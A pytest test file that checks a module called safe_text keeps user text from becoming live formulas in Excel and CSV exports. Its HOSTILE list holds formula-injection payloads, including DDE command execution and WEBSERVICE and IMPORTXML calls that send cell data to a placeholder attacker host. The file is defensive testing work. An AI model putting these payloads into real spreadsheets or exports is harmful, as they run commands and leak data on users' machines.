"""Typed text stays words in Excel and CSV, whatever it looks like."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.text import InlineFont

from csc_hub.exchange import safe_text
from tests.parts import soffice_convert

HOSTILE = (
    "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"Click\")", "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "+1+1", "+cmd|'/C calc'!A0", "+44 1632 960123", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "- spoke to the depot", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "|calc", "%0A=1+1", "\t=1+1", "\t", "\r=1+1", "\n=1+1",
    "\r\n@SUM(1)", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "\x1b+1", "\x7f-1", "\uff1d1+1",
    "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\u202e=1+1", "#REF!", "#N/A", "TRUE", "1e5", "0012", "12/10/2026", "{=1+1}",
    "=", "==", "_x003D_1+1", "&lt;script&gt;", "<b>&amp;", "'=1+1", '"=1+1', ";=1+1", "http://evil.example",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=\"a\"&1", "=1\n=2",
)  # fmt: skip
CSV = "csv:Text - txt - csv (StarCalc):44,34,76"
LIVE_IN_CSV = re.compile(r"[\ufeff\u200b\x00-\x1f\x7f\s]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]")


def as_kept(text: str) -> str:
    """What a person can still see of a hostile text."""
    return re.sub("[\x00-\x08\x0e-\x1f\x7f\u202a-\u202e]", "", text.replace("\r\n", "\n").replace("\r", "\n"))


def formulas(file: bytes) -> list[str]:
    """Every formula that a saved workbook holds in its cells, read from its XML."""
    found = []
    with zipfile.ZipFile(io.BytesIO(file)) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?/?>.{0,60}", parts.read(name).decode())
    return found


def written(texts: tuple[str, ...]) -> bytes:
    book = Workbook()
    for row, text in enumerate(texts, start=1):
        safe_text.write(book.active.cell(row, 1), text)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def test_hostile_texts_are_no_formulas_and_read_the_same() -> None:
    file = written(HOSTILE)
    assert formulas(file) == []
    cells = [row[0] for row in load_workbook(io.BytesIO(file)).active.iter_rows(max_row=len(HOSTILE))]
    read = [(cell.value or "").replace("_x005F_", "_") for cell in cells]
    assert read == [as_kept(text) for text in HOSTILE]
    assert {cell.data_type for cell in cells} == {"s"}


@pytest.mark.parametrize("text", [text for text in HOSTILE if LIVE_IN_CSV.match(as_kept(text))])
def test_a_cell_that_looks_like_a_formula_stays_text_when_somebody_edits_it(text: str) -> None:
    cell = load_workbook(io.BytesIO(written((text,)))).active["A1"]
    assert cell.quotePrefix


def test_ordinary_words_are_not_marked() -> None:
    cell = load_workbook(io.BytesIO(written(("Staff at the café – every day",)))).active["A1"]
    assert not cell.quotePrefix


@pytest.mark.parametrize("text", HOSTILE)
def test_no_value_in_a_csv_begins_like_a_formula(text: str) -> None:
    assert not LIVE_IN_CSV.match(safe_text.for_csv(text))
    assert safe_text.for_csv(text).removeprefix("'") == as_kept(text).removeprefix("'")


def test_text_of_several_fonts_is_as_safe() -> None:
    cell = Workbook().active["A1"]
    safe_text.write_parts(cell, ((InlineFont(b=True), "=1+1\x00"), (InlineFont(), "\n=2_x003D_")))
    assert (cell.data_type, str(cell.value)) == ("s", "=1+1\n=2_x005F_x003D_")
    assert cell.quotePrefix


def test_what_a_document_cannot_hold_is_left_out() -> None:
    assert safe_text.for_cell("a\x00b\x08c\ud800d\ufffee\uffff\u202eg\u2066h") == "abcdegh"
    assert safe_text.for_cell(None) == ""


def test_emoji_tabs_lines_and_right_to_left_writing_stay() -> None:
    text = "👩‍👧 café\tاللغة العربية\nעברית \u200f!"
    assert safe_text.for_cell(text) == text


def test_a_text_too_long_for_a_cell_is_cut_and_says_so() -> None:
    cut = safe_text.for_cell("😀" * 20_000)
    assert len(cut.encode("utf-16-le")) // 2 <= 32_767
    assert cut.endswith("cut here: too long for one cell]")
    assert safe_text.for_cell("x" * 32_767) == "x" * 32_767


def test_a_page_margin_takes_one_short_line_and_no_codes() -> None:
    assert safe_text.for_margin("Health &\nSafety &P") == "Health && Safety &&P"
    assert len(safe_text.for_margin("&" * 500)) <= 70


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Plan CSC-2026-014", "Plan CSC-2026-014"), ("Plan [a]:b*c?d/e\\f", "Plan -a--b-c-d-e-f"), ("", "Plan"),
        ("'quoted'", "quoted"), ("History", "Plan"), ("x" * 40, "x" * 31), ("😀" * 20, "😀" * 15),
    ],
)  # fmt: skip
def test_a_worksheet_gets_a_name_excel_accepts(text: str, name: str) -> None:
    assert safe_text.sheet_name(text, "Plan") == name


@pytest.mark.office
def test_libreoffice_recalculates_nothing(tmp_path: Path) -> None:
    source = tmp_path / "hostile.xlsx"
    source.write_bytes(written(HOSTILE))
    assert formulas(soffice_convert(source, "xlsx", tmp_path / "again").read_bytes()) == []
    table = soffice_convert(source, CSV, tmp_path / "csv").read_text(encoding="utf-8")
    shown = [row[0] if row else "" for row in csv.reader(io.StringIO(table, newline=""))]
    wanted = [as_kept(text) for text in HOSTILE]
    assert shown[: len(wanted)] == wanted
